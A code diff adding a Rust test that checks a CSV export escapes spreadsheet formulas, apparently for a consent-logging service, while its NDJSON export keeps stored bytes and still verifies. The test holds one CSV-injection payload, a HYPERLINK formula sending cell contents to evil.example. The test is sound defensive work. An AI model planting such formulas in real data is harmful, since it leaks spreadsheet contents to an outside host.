@@ -154,6 +154,33 @@ fn csv_export_escapes_commas_quotes_and_newlines() {
 }
 
 #[test]
+fn csv_export_never_hands_a_spreadsheet_a_formula() {
+    // Arrange: a hostile client chose its user agent to be a formula.
+    let app = spawn_app();
+    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;
+    app.seed(1, |_| formula.to_owned());
+
+    // Act
+    let csv_body = export(&app, "?format=csv");
+    let ndjson_body = export(&app, "");
+
+    // Assert: the CSV cell is text (a leading '); the NDJSON, which
+    // `crumb verify` checks, keeps the stored bytes, and verifies.
+    let mut reader = csv::Reader::from_reader(csv_body.as_bytes());
+    let ua = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "user_agent")
+        .unwrap();
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[ua], format!("'{formula}"));
+    let line: Value = serde_json::from_str(ndjson_body.lines().next().unwrap()).unwrap();
+    assert_eq!(line["user_agent"], formula);
+    assert!(verify_ndjson(Cursor::new(ndjson_body.as_bytes())).is_ok());
+}
+
+#[test]
 fn history_lists_every_event_of_a_consent() {
     // Arrange: given, updated, withdrawn.
     let app = spawn_app();
